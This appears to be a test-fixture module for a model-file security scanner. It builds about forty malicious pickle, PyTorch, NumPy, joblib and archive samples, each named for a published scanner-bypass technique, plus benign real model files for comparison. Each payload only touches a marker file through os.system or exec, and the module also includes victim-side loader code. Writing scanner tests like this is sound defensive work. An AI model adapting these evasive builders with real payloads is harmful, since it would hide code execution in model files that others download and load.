@@ -1,0 +1,711 @@
+"""A corpus built by code: malicious samples named after the advisory class they cover, and benign
+real files.
+
+Every malicious payload only creates the file `MARKER` in the current folder. Each sample function
+writes one file into `folder` and returns its path. `LOADER[name]` says how a victim would load it
+(`load_code(kind, path)` is the Python that does so); the tests run that in a throwaway subprocess
+to prove the payload is live, then check that scanning it runs nothing and reports it.
+
+Sources for the classes: picklescan advisories (CVE-2025-1716 pip.main, CVE-2025-1889 non-standard
+extensions, CVE-2025-1944 zip name mismatch, CVE-2025-1945 zip flag bits, CVE-2025-10155 extension
+routing, CVE-2025-10156 bad CRC, CVE-2025-10157 dangerous-module submodules), modelscan (only the
+first pickle of a legacy torch.save is read), fickling (OBJ/INST opcodes, names built in the memo),
+ModelAudit and public bypass write-ups (importlib, inspect.getattr_static, `__builtins__` of an
+allowed module, runpy, pkgutil.resolve_name, operator.attrgetter/methodcaller, marshal + CodeType,
+ctypes, network and file-writing modules, asyncio subprocess helpers, timeit/cProfile, nested and
+compressed containers).
+"""
+
+from __future__ import annotations
+
+import bz2
+import gzip
+import io
+import lzma
+import marshal
+import struct
+import tarfile
+import warnings
+import zipfile
+import zlib
+from collections.abc import Callable
+from pathlib import Path
+
+MARKER = "openness-marker"
+CODE = f"open({MARKER!r}, 'w').close()"
+TOUCH = f"touch {MARKER}"
+
+Sample = Callable[[Path], Path]
+
+
+# -- a tiny pickle assembler ---------------------------------------------------------------------
+
+
+def s(text: str) -> bytes:
+    """SHORT_BINUNICODE / BINUNICODE."""
+    raw = text.encode()
+    if len(raw) < 256:
+        return b"\x8c" + bytes([len(raw)]) + raw
+    return b"X" + struct.pack("<I", len(raw)) + raw
+
+
+def b(data: bytes) -> bytes:
+    """BINBYTES."""
+    return b"B" + struct.pack("<I", len(data)) + data
+
+
+def g(module: str, name: str) -> bytes:
+    """GLOBAL (protocol 0 spelling, accepted by every protocol)."""
+    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
+
+
+def sg(module: str, name: str) -> bytes:
+    """STACK_GLOBAL."""
+    return s(module) + s(name) + b"\x93"
+
+
+def call(func: bytes, *args: bytes) -> bytes:
+    """func(*args) with MARK ... TUPLE REDUCE."""
+    return func + b"(" + b"".join(args) + b"tR"
+
+
+def lst(*items: bytes) -> bytes:
+    return b"(" + b"".join(items) + b"l"
+
+
+def proto(body: bytes, version: int = 4) -> bytes:
+    return b"\x80" + bytes([version]) + body + b"."
+
+
+def _write(folder: Path, name: str, data: bytes) -> Path:
+    path = folder / name
+    path.write_bytes(data)
+    return path
+
+
+# -- payloads as pickle bodies -------------------------------------------------------------------
+
+
+def exec_body() -> bytes:
+    return call(g("builtins", "exec"), s(CODE))
+
+
+def _payload_pickle() -> bytes:
+    return proto(exec_body(), 2)
+
+
+# -- plain pickles: dangerous callables ------------------------------------------------------------
+
+
+def os_system(folder: Path) -> Path:
+    return _write(folder, "os_system.pkl", proto(call(g("os", "system"), s(TOUCH))))
+
+
+def posix_system_stack_global(folder: Path) -> Path:
+    return _write(folder, "posix_system.pkl", proto(call(sg("posix", "system"), s(TOUCH))))
+
+
+def builtins_exec(folder: Path) -> Path:
+    return _write(folder, "builtins_exec.pkl", proto(exec_body()))
+
+
+def builtin_eval_protocol0(folder: Path) -> Path:
+    """Python 2 spelling `__builtin__.eval`, mapped to builtins.eval at load (protocol 0 text)."""
+    data = b'c__builtin__\neval\n(S"' + CODE.encode() + b'"\ntR.'
+    return _write(folder, "protocol0_eval.pkl", data)
+
+
+def subprocess_inst_opcode(folder: Path) -> Path:
+    """INST calls the class/function it names with the marked arguments (fickling advisory)."""
+    data = b"((S'touch'\nS'" + MARKER.encode() + b"'\nlisubprocess\ncheck_call\n."
+    return _write(folder, "inst_check_call.pkl", data)
+
+
+def obj_opcode(folder: Path) -> Path:
+    data = proto(b"(" + g("os", "system") + s(TOUCH) + b"o", 2)
+    return _write(folder, "obj_system.pkl", data)
+
+
+def names_built_in_memo(folder: Path) -> Path:
+    """STACK_GLOBAL whose module and name strings come from the memo, not literals beside it."""
+    body = s("os") + b"\x94" + s("system") + b"\x94" + b"0" + b"0"  # memoize both, pop both
+    body += b"h\x00h\x01\x93" + b"(" + s(TOUCH) + b"tR"
+    return _write(folder, "memo_names.pkl", proto(body))
+
+
+def cve_2025_1716_pip_main(folder: Path) -> Path:
+    """pip.main as the callable: installs (here: writes its log to) whatever the args say."""
+    args = lst(s("list"), s("--log"), s(MARKER), s("--disable-pip-version-check"))
+    return _write(folder, "pip_main.pkl", proto(call(g("pip", "main"), args)))
+
+
+def importlib_import_module(folder: Path) -> Path:
+    module = call(g("importlib", "import_module"), s("os"))
+    body = call(call(g("operator", "methodcaller"), s("system"), s(TOUCH)), module)
+    return _write(folder, "importlib.pkl", proto(body))
+
+
+def inspect_getattr_static(folder: Path) -> Path:
+    """inspect.getattr_static(inspect.builtins, 'exec')(code): no import name looks dangerous."""
+    fetch = call(g("inspect", "getattr_static"), g("inspect", "builtins"), s("exec"))
+    return _write(folder, "getattr_static.pkl", proto(call(fetch, s(CODE))))
+
+
+def numpy_builtins_dict(folder: Path) -> Path:
+    """`numpy.__builtins__` is the builtins dict of an allowed module; getitem fetches exec."""
+    fetch = call(g("_operator", "getitem"), g("numpy", "__builtins__"), s("exec"))
+    return _write(folder, "numpy_builtins.pkl", proto(call(fetch, s(CODE))))
+
+
+def attribute_chain_in_global_name(folder: Path) -> Path:
+    """Protocol 4 resolves dotted names: `pathlib` + `os.system` is os.system."""
+    return _write(folder, "dotted_name.pkl", proto(call(sg("pathlib", "os.system"), s(TOUCH))))
+
+
+def runpy_run_code(folder: Path) -> Path:
+    return _write(folder, "runpy.pkl", proto(call(g("runpy", "_run_code"), s(CODE), b"}")))
+
+
+def pkgutil_resolve_name(folder: Path) -> Path:
+    fetch = call(g("pkgutil", "resolve_name"), s("os:system"))
+    return _write(folder, "resolve_name.pkl", proto(call(fetch, s(TOUCH))))
+
+
+def operator_attrgetter(folder: Path) -> Path:
+    """attrgetter('system') over the os module reached through another module's attribute."""
+    fetch = call(call(g("operator", "attrgetter"), s("system")), g("pathlib", "os"))
+    return _write(folder, "attrgetter.pkl", proto(call(fetch, s(TOUCH))))
+
+
+def marshal_code_type(folder: Path) -> Path:
+    """Marshalled bytecode turned into a function by types.FunctionType, then called."""
+    code = marshal.dumps(compile(CODE, "<payload>", "exec"))
+    function = call(g("types", "FunctionType"), call(g("marshal", "loads"), b(code)), b"}")
+    return _write(folder, "marshal_code.pkl", proto(call(function)))
+
+
+def ctypes_libc_system(folder: Path) -> Path:
+    libc = call(g("ctypes", "CDLL"), b"N")
+    fetch = call(g("builtins", "getattr"), libc, s("system"))
+    return _write(folder, "ctypes.pkl", proto(call(fetch, b(TOUCH.encode()))))
+
+
+def cve_2025_10157_asyncio_submodule(folder: Path) -> Path:
+    """Submodules of a blocked package (asyncio.subprocess, asyncio.runners) slip a name list."""
+    coro = call(g("asyncio.subprocess", "create_subprocess_exec"), s("touch"), s(MARKER))
+    return _write(folder, "asyncio_subprocess.pkl", proto(call(g("asyncio.runners", "run"), coro)))
+
+
+def urllib_file_url(folder: Path) -> Path:
+    """A network module fetching a URL into a file (a file:// URL keeps the test offline)."""
+    body = call(g("urllib.request", "urlretrieve"), s("file:///dev/null"), s(MARKER))
+    return _write(folder, "urlretrieve.pkl", proto(body))
+
+
+def io_file_write(folder: Path) -> Path:
+    return _write(folder, "fileio.pkl", proto(call(g("_io", "FileIO"), s(MARKER), s("w"))))
+
+
+def pickle_reentry(folder: Path) -> Path:
+    """A pickle that unpickles hidden bytes: the inner payload is invisible to a one-level scan."""
+    body = call(g("_pickle", "loads"), b(_payload_pickle()))
+    return _write(folder, "reentry.pkl", proto(body))
+
+
+def timeit_statement(folder: Path) -> Path:
+    body = call(g("timeit", "timeit"), s(CODE), s("pass"), g("time", "perf_counter"), b"K\x01")
+    return _write(folder, "timeit.pkl", proto(body))
+
+
+def cprofile_run(folder: Path) -> Path:
+    return _write(folder, "cprofile.pkl", proto(call(g("cProfile", "run"), s(CODE))))
+
+
+def numpy_testing_runstring(folder: Path) -> Path:
+    body = call(g("numpy.testing._private.utils", "runstring"), s(CODE), b"}")
+    return _write(folder, "runstring.pkl", proto(body))
+
+
+def getattr_import_chain(folder: Path) -> Path:
+    module = call(g("builtins", "__import__"), s("os"))
+    fetch = call(g("builtins", "getattr"), module, s("system"))
+    return _write(folder, "getattr_import.pkl", proto(call(fetch, s(TOUCH))))
+
+
+def payload_in_second_pickle(folder: Path) -> Path:
+    """Two pickles in one stream; loaders calling pickle.load twice run the second."""
+    data = proto(b"K\x01", 2) + _payload_pickle()
+    return _write(folder, "two_pickles.pkl", data)
+
+
+# -- torch files ---------------------------------------------------------------------------------
+
+
+def _legacy_header() -> bytes:
+    magic = proto(b"\x8a\x0al\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19", 2)
+    version = proto(b"M\xe9\x03", 2)  # protocol version 1001
+    info = proto(b"}(" + s("little_endian") + b"\x88" + s("protocol_version") + b"M\xe9\x03u", 2)
+    return magic + version + info
+
+
+def modelscan_legacy_main_pickle(folder: Path) -> Path:
+    """Legacy torch.save writes five pickles; the payload sits in the fourth (the main object)."""
+    keys = proto(b"]", 2)
+    return _write(folder, "legacy.pt", _legacy_header() + _payload_pickle() + keys)
+
+
+def _torch_zip(members: list[tuple[str, bytes]]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zf:
+        for name, data in members:
+            zf.writestr(name, data)
+    return buffer.getvalue()
+
+
+def _torch_members(prefix: str, data_pkl: bytes) -> list[tuple[str, bytes]]:
+    return [
+        (f"{prefix}/data.pkl", data_pkl),
+        (f"{prefix}/byteorder", b"little"),
+        (f"{prefix}/version", b"3\n"),
+    ]
+
+
+def torch_zip_data_pkl(folder: Path) -> Path:
+    data = _torch_zip(_torch_members("archive", _payload_pickle()))
+    return _write(folder, "torch_zip.pt", data)
+
+
+def torch_zip_odd_prefix(folder: Path) -> Path:
+    """data.pkl under an unusual top folder with spaces and dots."""
+    data = _torch_zip(_torch_members("my model.v2 (final)", _payload_pickle()))
+    return _write(folder, "odd_prefix.pt", data)
+
+
+def cve_2025_10155_pickle_named_bin(folder: Path) -> Path:
+    """A plain pickle named like a PyTorch file: routed to the zip scanner, which fails."""
+    return _write(folder, "pytorch_model.bin", _payload_pickle())
+
+
+def _patch_all(data: bytes, old: bytes, new: bytes) -> bytes:
+    assert len(old) == len(new) and old in data
+    return data.replace(old, new)
+
+
+def cve_2025_1944_zip_name_mismatch(folder: Path) -> Path:
+    """Local header and central directory disagree on a member name; zipfile refuses it."""
+    data = _torch_zip(_torch_members("archive", _payload_pickle()) + [("archive/extra", b"x")])
+    name_at = data.index(b"archive/extra")  # local headers come before the central directory
+    patched = data[:name_at] + b"archive/EXTRA" + data[name_at + len(b"archive/extra") :]
+    return _write(folder, "name_mismatch.pt", patched)
+
+
+def _set_flag_bits(data: bytes, name: bytes, mask: int) -> bytes:
+    """OR `mask` into the flag bits of member `name` in its local and central headers."""
+    out = bytearray(data)
+    for sig, flag_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
+        start = 0
+        while (at := data.find(sig, start)) >= 0:
+            if data[at + name_at : at + name_at + len(name)] == name:
+                (flags,) = struct.unpack_from("<H", out, at + flag_at)
+                struct.pack_into("<H", out, at + flag_at, flags | mask)
+            start = at + 4
+    return bytes(out)
+
+
+def cve_2025_1945_zip_flag_bits(folder: Path) -> Path:
+    """The 'encrypted' flag bit set on a member PyTorch never reads, listed before data.pkl: a
+    scanner that reads members in order with zipfile stops there; PyTorch loads data.pkl."""
+    members = [("archive/.notes", b"notes")] + _torch_members("archive", _payload_pickle())
+    data = _set_flag_bits(_torch_zip(members), b"archive/.notes", 0x1)
+    return _write(folder, "flag_bits.pt", data)
+
+
+def cve_2025_10156_zip_bad_crc(folder: Path) -> Path:
+    """Wrong CRC-32 on data.pkl: zipfile raises on read, PyTorch does not check it."""
+    payload = _payload_pickle()
+    data = _torch_zip(_torch_members("archive", payload))
+    good = struct.pack("<I", zlib.crc32(payload))
+    return _write(folder, "bad_crc.pt", _patch_all(data, good, b"\xde\xad\xbe\xef"))
+
+
+def duplicate_data_pkl(folder: Path) -> Path:
+    """Two members named data.pkl: PyTorch loads the first (the payload), zipfile's lookup by name
+    returns the last (benign)."""
+    members = _torch_members("archive", _payload_pickle()) + [("archive/data.pkl", proto(b"}", 2))]
+    buffer = io.BytesIO()
+    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zf:
+        warnings.simplefilter("ignore")  # "Duplicate name" is the point
+        for name, data in members:
+            zf.writestr(name, data)
+    return _write(folder, "duplicate.pt", buffer.getvalue())
+
+
+# -- numpy, joblib, containers -------------------------------------------------------------------
+
+
+def _npy_object(payload: bytes) -> bytes:
+    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    header += " " * (63 - (10 + len(header)) % 64) + "\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload
+
+
+def npy_object_array(folder: Path) -> Path:
+    return _write(folder, "object.npy", _npy_object(_payload_pickle()))
+
+
+def npz_object_array(folder: Path) -> Path:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as zf:
+        zf.writestr("weights.npy", _npy_object(_payload_pickle()))
+    return _write(folder, "arrays.npz", buffer.getvalue())
+
+
+def joblib_payload(folder: Path) -> Path:
+    return _write(folder, "model.joblib", _payload_pickle())
+
+
+def joblib_gzip(folder: Path) -> Path:
+    return _write(folder, "model.joblib.gz", gzip.compress(_payload_pickle()))
+
+
+def joblib_bz2(folder: Path) -> Path:
+    return _write(folder, "model.joblib.bz2", bz2.compress(_payload_pickle()))
+
+
+def joblib_xz(folder: Path) -> Path:
+    return _write(folder, "model.joblib.xz", lzma.compress(_payload_pickle()))
+
+
+def cve_2025_1889_nonstandard_extension_in_zip(folder: Path) -> Path:
+    """A release zip whose pickle has an extension scanners skip (`.cfg`)."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("model/README.md", "# a model\n")
+        zf.writestr("model/weights.cfg", _payload_pickle())
+    return _write(folder, "release.zip", buffer.getvalue())
+
+
+def wheel_with_pickle(folder: Path) -> Path:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("pkg/__init__.py", "")
+        zf.writestr("pkg/model.pkl", _payload_pickle())
+        zf.writestr("pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n")
+    return _write(folder, "pkg-1.0-py3-none-any.whl", buffer.getvalue())
+
+
+def nested_zip_in_tar_gz(folder: Path) -> Path:
+    """A tar.gz holding a zip holding a gzip-compressed pickle: three layers to peel."""
+    inner = io.BytesIO()
+    with zipfile.ZipFile(inner, "w") as zf:
+        zf.writestr("weights/model.pkl.gz", gzip.compress(_payload_pickle()))
+    outer = io.BytesIO()
+    with tarfile.open(fileobj=outer, mode="w:gz") as tf:
+        info = tarfile.TarInfo("bundle/inner.zip")
+        info.size = len(inner.getvalue())
+        tf.addfile(info, io.BytesIO(inner.getvalue()))
+    return _write(folder, "nested.tar.gz", outer.getvalue())
+
+
+MALICIOUS: dict[str, Sample] = {
+    f.__name__: f
+    for f in (
+        os_system,
+        posix_system_stack_global,
+        builtins_exec,
+        builtin_eval_protocol0,
+        subprocess_inst_opcode,
+        obj_opcode,
+        names_built_in_memo,
+        cve_2025_1716_pip_main,
+        importlib_import_module,
+        inspect_getattr_static,
+        numpy_builtins_dict,
+        attribute_chain_in_global_name,
+        runpy_run_code,
+        pkgutil_resolve_name,
+        operator_attrgetter,
+        marshal_code_type,
+        ctypes_libc_system,
+        cve_2025_10157_asyncio_submodule,
+        urllib_file_url,
+        io_file_write,
+        pickle_reentry,
+        timeit_statement,
+        cprofile_run,
+        numpy_testing_runstring,
+        getattr_import_chain,
+        payload_in_second_pickle,
+        modelscan_legacy_main_pickle,
+        torch_zip_data_pkl,
+        torch_zip_odd_prefix,
+        cve_2025_10155_pickle_named_bin,
+        cve_2025_1944_zip_name_mismatch,
+        cve_2025_1945_zip_flag_bits,
+        cve_2025_10156_zip_bad_crc,
+        duplicate_data_pkl,
+        npy_object_array,
+        npz_object_array,
+        joblib_payload,
+        joblib_gzip,
+        joblib_bz2,
+        joblib_xz,
+        cve_2025_1889_nonstandard_extension_in_zip,
+        wheel_with_pickle,
+        nested_zip_in_tar_gz,
+    )
+}
+
+_TORCH = {
+    "modelscan_legacy_main_pickle",
+    "torch_zip_data_pkl",
+    "torch_zip_odd_prefix",
+    "cve_2025_10155_pickle_named_bin",
+    "cve_2025_1944_zip_name_mismatch",
+    "cve_2025_1945_zip_flag_bits",
+    "cve_2025_10156_zip_bad_crc",
+    "duplicate_data_pkl",
+}
+_OTHER = {
+    "payload_in_second_pickle": "pickle-all",
+    "npy_object_array": "numpy",
+    "npz_object_array": "numpy",
+    "joblib_payload": "joblib",
+    "joblib_gzip": "joblib",
+    "joblib_bz2": "joblib",
+    "joblib_xz": "joblib",
+    "cve_2025_1889_nonstandard_extension_in_zip": "archive",
+    "wheel_with_pickle": "archive",
+    "nested_zip_in_tar_gz": "archive",
+}
+#: how a victim loads each malicious sample (see load_code)
+LOADER: dict[str, str] = {
+    name: "torch" if name in _TORCH else _OTHER.get(name, "pickle") for name in MALICIOUS
+}
+
+_ARCHIVE_LOADER = """
+import gzip, io, pickle, sys, tarfile, zipfile
+def members(data):
+    if data[:2] == b"\\x1f\\x8b":
+        yield from members(gzip.decompress(data))
+    elif data[:4] == b"PK\\x03\\x04":
+        with zipfile.ZipFile(io.BytesIO(data)) as zf:
+            for name in zf.namelist():
+                yield from members(zf.read(name))
+    elif len(data) > 262 and data[257:262] == b"ustar":
+        with tarfile.open(fileobj=io.BytesIO(data)) as tf:
+            for info in tf.getmembers():
+                if info.isfile():
+                    yield from members(tf.extractfile(info).read())
+    else:
+        yield data
+for data in members(open(sys.argv[1], "rb").read()):
+    if data[:1] == b"\\x80":
+        pickle.loads(data)
+"""
+_LOAD_CODE = {
+    "pickle": "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))",
+    "pickle-all": (
+        "import pickle, sys\nf = open(sys.argv[1], 'rb')\nwhile f.peek(1):\n    pickle.load(f)"
+    ),
+    "torch": "import sys, torch; torch.load(sys.argv[1], weights_only=False)",
+    "numpy": (
+        "import sys, numpy\nx = numpy.load(sys.argv[1], allow_pickle=True)\n"
+        "if hasattr(x, 'files'):\n    [x[k] for k in x.files]"
+    ),
+    "joblib": "import sys, joblib; joblib.load(sys.argv[1])",
+    "archive": _ARCHIVE_LOADER,
+}
+#: after loading, wait for children a payload started (asyncio) so the marker check is exact
+_WAIT_CHILDREN = """
+import os
+try:
+    while True:
+        os.waitpid(-1, 0)
+except ChildProcessError:
+    pass
+"""
+
+
+def load_code(kind: str) -> str:
+    """Python source that loads `sys.argv[1]` the way a victim would."""
+    return _LOAD_CODE[kind] + "\n" + _WAIT_CHILDREN
+
+
+# -- benign real files ---------------------------------------------------------------------------
+
+
+def _torch_save(folder: Path, name: str, obj: object, legacy: bool) -> Path:
+    import torch
+
+    path = folder / name
+    torch.save(obj, path, _use_new_zipfile_serialization=not legacy)
+    return path
+
+
+def _transformer_state() -> object:
+    import torch
+
+    torch.manual_seed(0)
+    layer = torch.nn.TransformerEncoderLayer(d_model=32, nhead=4, dim_feedforward=64)
+    return layer.state_dict()
+
+
+def _cnn_state() -> object:
+    import torch
+    from torch import nn
+
+    torch.manual_seed(0)
+    model = nn.Sequential(
+        nn.Conv2d(3, 8, 3),
+        nn.BatchNorm2d(8),
+        nn.ReLU(),
+        nn.MaxPool2d(2),
+        nn.Conv2d(8, 16, 3),
+        nn.Flatten(),
+        nn.Linear(16 * 4 * 4, 10),
+    )
+    return model.state_dict()
+
+
+def _lstm_state() -> object:
+    import torch
+
+    torch.manual_seed(0)
+    return torch.nn.LSTM(16, 32, num_layers=2, bidirectional=True).state_dict()
+
+
+def _tied_embedding_state() -> object:
+    import torch
+    from torch import nn
+
+    torch.manual_seed(0)
+    embed = nn.Embedding(100, 16)
+    head = nn.Linear(16, 100, bias=False)
+    head.weight = embed.weight
+    model = nn.ModuleDict({"embed": embed, "head": head})
+    return model.state_dict()
+
+
+def _checkpoint_state() -> object:
+    """A training checkpoint: state dict, optimizer state, epoch, bfloat16 and int tensors."""
+    import torch
+
+    torch.manual_seed(0)
+    model = torch.nn.Linear(8, 4)
+    optimizer = torch.optim.Adam(model.parameters())
+    model(torch.randn(2, 8)).sum().backward()
+    optimizer.step()
+    return {
+        "model": model.state_dict(),
+        "optimizer": optimizer.state_dict(),
+        "epoch": 3,
+        "extra": {"bf16": torch.ones(3, dtype=torch.bfloat16), "ids": torch.arange(5)},
+    }
+
+
+def _torch_sample(state: Callable[[], object], legacy: bool) -> Sample:
+    def make(folder: Path) -> Path:
+        suffix = "legacy.pt" if legacy else "pt"
+        return _torch_save(folder, f"{state.__name__.strip('_')}.{suffix}", state(), legacy)
+
+    return make
+
+
+def numpy_array_npy(folder: Path) -> Path:
+    import numpy as np
+
+    path = folder / "array.npy"
+    np.save(path, np.arange(100, dtype=np.float32).reshape(10, 10))
+    return path
+
+
+def numpy_arrays_npz(folder: Path) -> Path:
+    import numpy as np
+
+    path = folder / "arrays.npz"
+    np.savez(path, a=np.zeros(4), b=np.ones((2, 3), dtype=np.int16))
+    return path
+
+
+def numpy_array_pickle(folder: Path) -> Path:
+    import pickle
+
+    import numpy as np
+
+    path = folder / "arrays.pkl"
+    value = {"w": np.arange(12, dtype=np.float64).reshape(3, 4), "s": np.float32(1.5)}
+    path.write_bytes(pickle.dumps(value, protocol=4))
+    return path
+
+
+def numpy_array_pickle_protocol2(folder: Path) -> Path:
+    import pickle
+
+    import numpy as np
+
+    path = folder / "arrays_p2.pkl"
+    path.write_bytes(pickle.dumps([np.ones(3, dtype=np.int8), np.dtype("<f4")], protocol=2))
+    return path
+
+
+def joblib_numpy(folder: Path) -> Path:
+    import joblib
+    import numpy as np
+
+    path = folder / "arrays.joblib"
+    joblib.dump({"w": np.arange(1000, dtype=np.float32), "b": np.zeros(3)}, path)
+    return path
+
+
+def _sklearn_models() -> list[object]:
+    import numpy as np
+    from sklearn.ensemble import RandomForestClassifier
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.pipeline import make_pipeline
+    from sklearn.preprocessing import StandardScaler
+
+    rng = np.random.default_rng(0)
+    x = rng.normal(size=(60, 4))
+    y = (x[:, 0] > 0).astype(int)
+    return [
+        make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y),
+        RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y),
+    ]
+
+
+def sklearn_joblib(folder: Path) -> Path:
+    import joblib
+
+    path = folder / "sklearn.joblib"
+    joblib.dump(_sklearn_models(), path)
+    return path
+
+
+def sklearn_pickle(folder: Path) -> Path:
+    import pickle
+
+    path = folder / "sklearn.pkl"
+    path.write_bytes(pickle.dumps(_sklearn_models(), protocol=5))
+    return path
+
+
+BENIGN: dict[str, Sample] = {
+    "torch_transformer_zip": _torch_sample(_transformer_state, legacy=False),
+    "torch_transformer_legacy": _torch_sample(_transformer_state, legacy=True),
+    "torch_cnn_zip": _torch_sample(_cnn_state, legacy=False),
+    "torch_cnn_legacy": _torch_sample(_cnn_state, legacy=True),
+    "torch_lstm_zip": _torch_sample(_lstm_state, legacy=False),
+    "torch_lstm_legacy": _torch_sample(_lstm_state, legacy=True),
+    "torch_tied_embedding_zip": _torch_sample(_tied_embedding_state, legacy=False),
+    "torch_tied_embedding_legacy": _torch_sample(_tied_embedding_state, legacy=True),
+    "torch_checkpoint_zip": _torch_sample(_checkpoint_state, legacy=False),
+    "torch_checkpoint_legacy": _torch_sample(_checkpoint_state, legacy=True),
+    "numpy_array_npy": numpy_array_npy,
+    "numpy_arrays_npz": numpy_arrays_npz,
+    "numpy_array_pickle": numpy_array_pickle,
+    "numpy_array_pickle_protocol2": numpy_array_pickle_protocol2,
+    "joblib_numpy": joblib_numpy,
+    "sklearn_joblib": sklearn_joblib,
+    "sklearn_pickle": sklearn_pickle,
+}
